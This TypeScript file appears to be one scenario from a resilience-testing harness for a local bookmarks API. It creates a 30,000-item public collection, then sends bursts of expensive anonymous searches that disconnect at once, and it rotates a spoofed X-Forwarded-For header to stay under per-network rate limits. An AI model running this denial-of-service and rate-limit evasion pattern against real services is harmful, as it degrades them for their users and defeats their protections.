import { once } from "node:events";
import { connect } from "node:net";
import { setTimeout } from "node:timers/promises";
import { createCollection, type Person, sendOrThrow } from "./account.ts";
import type { Attack } from "./attack.ts";

const ITEMS = 30_000;

/** As many as a request to the API may hold. */
const BATCH = 100;

/** Searches of a burst: a network may send 600 requests a minute. */
const BURST = 590;

/** Beginnings of words that are in every item: such a search reads each of them several times. */
const SEARCH = [
  "the",
  "title",
  "of",
  "item",
  "some",
  "words",
  "about",
  "which",
  "there",
  "are",
  "more",
  "than",
  "enough",
]
  .flatMap((word) => [word.slice(0, 2), word.slice(0, 3), word])
  .join(" ");

/** Pause between two bursts. */
const INTERVAL_MS = 5_000;

export const SEARCHBURST: Attack = {
  title: `bursts of ${BURST} anonymous searches of ${ITEMS.toLocaleString("en")} items, whose clients disconnect at once`,
  loops: 1,
  async prepare({ base, attacker, victim }) {
    const large = await createPublic(base, attacker, ITEMS);
    const small = await createPublic(base, victim, 10);
    let bursts = 0;
    return {
      async attackOnce() {
        bursts += 1;
        const network = `198.51.100.${bursts % 250}`;
        const searches = Array.from({ length: BURST }, (_, number) =>
          requestAndDisconnect(base, searchIn(large, `${SEARCH} -none${bursts}x${number}`), network),
        );
        await Promise.all(searches);
        await setTimeout(INTERVAL_MS);
        return 0;
      },
      watched: [
        `/rest/v1/raindrops/${small}?search=title`,
        `/rest/v1/raindrops/${small}`,
        `/rest/v1/raindrops/${large}?search=title`,
      ],
    };
  },
};

/** The path of a search in a collection, best matches first. */
function searchIn(collection: number, text: string): string {
  return `/rest/v1/raindrops/${collection}?${new URLSearchParams({ search: text, sort: "score" })}`;
}

/** Creates a public collection with items, and returns its id. */
async function createPublic(base: string, person: Person, count: number): Promise<number> {
  const id = await createCollection(base, person, true);
  const items = Array.from({ length: count }, (_, number) => ({
    link: `https://example.com/${number}`,
    title: `The title of the item ${number}`,
    excerpt: `Some words about the item ${number}, of which there are more than enough. `.repeat(3),
    collection: { $id: id },
  }));
  for (let start = 0; start < count; start += BATCH) {
    const body = { items: items.slice(start, start + BATCH) };
    await sendOrThrow(base, "POST", "/rest/v1/raindrops", { token: person.token, body });
  }
  return id;
}

/** Sends a request from a network, and closes the connection without waiting for the response. */
async function requestAndDisconnect(base: string, path: string, network: string): Promise<void> {
  const socket = connect({ host: "127.0.0.1", port: Number(new URL(base).port) });
  socket.on("error", () => {});
  socket.write(`GET ${path} HTTP/1.1\r\nHost: localhost\r\nX-Forwarded-For: ${network}\r\n\r\n`, () =>
    socket.destroy(),
  );
  if (!socket.closed) await once(socket, "close");
}
